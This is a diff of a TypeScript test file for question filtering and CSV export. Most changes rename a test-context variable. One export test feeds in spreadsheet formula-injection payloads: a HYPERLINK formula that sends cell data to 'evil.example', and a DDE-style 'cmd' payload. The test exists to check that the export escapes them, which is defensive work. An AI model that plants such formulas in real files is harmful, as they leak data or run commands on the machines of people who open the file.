@@ -9,9 +9,9 @@ import { assignQuestion } from '../teamwork/assign-question.ts'
 import { exportQuestions } from './export-questions.ts'
 import { filterValues } from './filter-values.ts'
 
-let world: TestContext
+let testContext: TestContext
 beforeAll(async () => {
-  world = await createTestContext()
+  testContext = await createTestContext()
 })
 
 const source = (id: string, title: string) => ({
@@ -21,7 +21,7 @@ const source = (id: string, title: string) => ({
 })
 
 async function filledInbox() {
-  const inbox = await createInbox(world)
+  const inbox = await createInbox(testContext)
   const care = newId()
   const first = await inbox.asked('Wash linen?', {
     page_url: 'https://woven.example/care?utm=1#top',
@@ -33,7 +33,7 @@ async function filledInbox() {
     outcome: 'refused',
   })
   await inbox.asked('Ship?', { page_url: 'https://woven.example/shipping' })
-  await systemTransaction(world.db, (transaction) =>
+  await systemTransaction(testContext.db, (transaction) =>
     transaction.execute(
       `update messages set language = case when question like 'Leinen%' then 'de' else 'en' end where workspace_id = '${inbox.id}'`,
     ),
@@ -76,7 +76,7 @@ describe('the filters of questions', () => {
         { language: 'de', count: 1 },
       ],
     })
-    const other = await createInbox(world)
+    const other = await createInbox(testContext)
     expect(await filterValues(other.ctx)).toEqual({ pages: [], sources: [], languages: [] })
     expect((await listQuestions(other.ctx, { page: 1, limit: 10, source_id: care })).total).toBe(0)
   })
@@ -93,7 +93,7 @@ describe('an export of questions', () => {
   })
 
   it("protects visitors' texts from being formulas", async () => {
-    const { ctx, asked } = await createInbox(world)
+    const { ctx, asked } = await createInbox(testContext)
     await asked('=HYPERLINK("https://evil.example?"&A1,"Click")', { answer: "@SUM(1+1)*cmd|' /C calc'!A0" })
     const text = await exported(ctx)
     expect(text).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""Click"")"`)
@@ -101,8 +101,8 @@ describe('an export of questions', () => {
   })
 
   it('contains each question once across several batches', async () => {
-    const { ctx, id: workspaceId } = await createInbox(world)
-    await systemTransaction(world.db, (transaction) =>
+    const { ctx, id: workspaceId } = await createInbox(testContext)
+    await systemTransaction(testContext.db, (transaction) =>
       transaction.execute(
         `insert into messages (workspace_id, id, conversation_id, question, answer, outcome)
          select '${workspaceId}', gen_random_uuid(), gen_random_uuid(), 'Question ' || n || '.', '', 'answered'
